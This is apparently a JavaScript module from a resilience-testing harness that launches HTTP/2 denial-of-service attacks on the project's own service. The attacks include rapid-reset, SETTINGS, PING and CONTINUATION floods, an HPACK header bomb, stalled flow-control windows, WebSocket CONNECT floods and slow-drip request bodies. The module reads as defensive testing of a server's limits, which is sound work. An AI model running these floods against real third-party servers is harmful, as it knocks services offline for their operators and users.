/** Frames and streams of HTTP/2 that cost the service more than the client: RFC 9113 section 10.5. */

import { setTimeout as sleep } from 'node:timers/promises';
import { flood } from '../attacker.js';
import {
  begin,
  beginStreams,
  endHeaders,
  endStream,
  frame,
  maxWindow,
  onEachStream,
  openWindow,
  requestBlock,
  streamAt,
  streamsEach,
  types,
  uint32,
} from '../http2-frames.js';

const flags = ['--h2c'];
const whole = endHeaders | endStream;

/** No proxy forwards these frames as they are, and frames come before accounts. */
const isFor = (/** @type {import('../attacker.js').Mode} */ { isProxied, hasAccounts }) =>
  !isProxied && !hasAccounts;

/** @typedef {import('node:net').Socket} Socket */

/**
 * An attack that floods 20 connections with pieces, as fast as they are accepted, and replaces those that are cut.
 *
 * @param {string} name
 * @param {(place: number) => Buffer} pieceAt
 * @returns {import('../attacker.js').Attack}
 */
const floodOf = (name, pieceAt) => ({
  name: `HTTP/2: ${name}, on 20 connections`,
  isFor,
  flags,
  run: (attacker) =>
    attacker.repeat(20, async () => {
      const [socket] = await attacker.openMany(1, (opened) => {
        opened.resume();
        opened.write(begin());
        flood(opened, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
      });
      if (!socket?.destroyed) await new Promise((resolve) => socket?.once('close', resolve));
    }),
});

/** @param {(place: number) => Buffer} make @param {number} [count] */
const batch =
  (make, count = 50) =>
  (/** @type {number} */ turn) =>
    Buffer.concat(Array.from({ length: count }, (_, place) => make(turn * count + place)));

const getHead = requestBlock('GET', '/api/Books?sort=title&q=a');
const postHead = requestBlock('POST', '/api/methods/post', { 'content-type': 'text/plain' });
const large = requestBlock('GET', '/openapi.json');

/**
 * An attack that requests 5,000 large responses on 50 connections.
 *
 * @param {string} name
 * @param {number} window Of each stream
 * @param {(attacker: import('../attacker.js').Attacker, socket: Socket) => void} [use] By default, nothing is read
 * @returns {import('../attacker.js').Attack}
 */
const largeResponses = (name, window, use = () => {}) => ({
  name: `HTTP/2: 5,000 large answers ${name}`,
  isFor,
  flags,
  // Renders the response, which happens once.
  prepare: (attacker) => attacker.ask('GET', '/openapi.json'),
  async run(attacker) {
    await attacker.openMany(50, (socket) => {
      socket.pause();
      socket.write(beginStreams(large, window));
      use(attacker, socket);
    });
    await attacker.untilOver();
  },
});

/** The first request stores it in the table; each byte of the others repeats it: 4,000 bytes, sixty times. */
const keptField = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4000, 'a'),
]);
const bomb = Buffer.concat([requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);

/** @type {readonly import('../attacker.js').Attack[]} */
export const http2Attacks = [
  floodOf(
    'requests that are reset at once',
    batch((place) =>
      Buffer.concat([
        frame(types.headers, whole, streamAt(place), getHead),
        frame(types.rstStream, 0, streamAt(place), uint32(8)),
      ]),
    ),
  ),
  floodOf(
    'floods of SETTINGS',
    batch(() => frame(types.settings, 0, 0)),
  ),
  floodOf(
    'floods of PING',
    batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
  ),
  floodOf('headers that go on without end', (turn) =>
    turn === 0
      ? frame(types.headers, 0, 1, getHead)
      : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
  ),
  floodOf('headers that unpack to 240 KB', (turn) =>
    turn === 0
      ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
      : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
  ),
  largeResponses('in windows of nothing', 0),
  largeResponses('in windows that open by a byte', 0, (attacker, socket) => {
    const crumbs = onEachStream((stream) => openWindow(stream, 1));
    socket.resume();
    flood(socket, () => (attacker.isOver() ? undefined : crumbs));
  }),
  largeResponses('on 50 connections that are not read', maxWindow),
  {
    name: 'HTTP/2: 5,000 WebSockets on 50 connections that take nothing',
    isFor,
    flags,
    async run(attacker) {
      const path = '/api/ws/push?interval=0&size=60000&count=1000';
      const head = requestBlock('CONNECT', path, {
        ':protocol': 'websocket',
        'sec-websocket-version': '13',
      });
      const heads = onEachStream((stream) => frame(types.headers, endHeaders, stream, head));
      await attacker.openMany(50, (socket) => {
        socket.resume();
        socket.write(Buffer.concat([begin(0), heads]));
      });
      await attacker.untilOver();
    },
  },
  {
    name: 'HTTP/2: 5,000 bodies of a byte every two seconds',
    seconds: 45,
    isFor,
    flags,
    async run(attacker) {
      /** @type {Set<string>} */
      const open = new Set();
      const sockets = await attacker.openMany(50, (socket, index) => {
        for (let place = 0; place < streamsEach; place++) open.add(`${index} ${streamAt(place)}`);
        watchStreams(socket, (stream) => open.delete(`${index} ${stream}`));
        socket.write(beginStreams(postHead, undefined, endHeaders));
      });
      while (!attacker.isOver()) {
        for (const [index, socket] of sockets.entries()) {
          for (let place = 0; place < streamsEach; place++) {
            const stream = streamAt(place);
            if (socket.destroyed || !open.has(`${index} ${stream}`)) continue;
            socket.write(frame(types.data, 0, stream, Buffer.from('x')));
          }
        }
        await sleep(2000);
      }
      // A short run ends before they are too slow.
      if (attacker.isShort || open.size === 0) return [];
      return [`${open.size} bodies slower than 1 KiB/s for 30 s were not cut`];
    },
  },
];

/**
 * Reports each stream that the service ends.
 *
 * @param {Socket} socket
 * @param {(stream: number) => void} onEnd
 */
function watchStreams(socket, onEnd) {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    rest = Buffer.concat([rest, /** @type {Buffer} */ (chunk)]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const [type, bits = 0] = [rest[3], rest[4]];
      const isLast =
        type === types.data || type === types.headers ? (bits & endStream) !== 0 : false;
      if (isLast || type === types.rstStream) onEnd(rest.readUInt32BE(5));
      rest = rest.subarray(9 + rest.readUIntBE(0, 3));
    }
  });
}
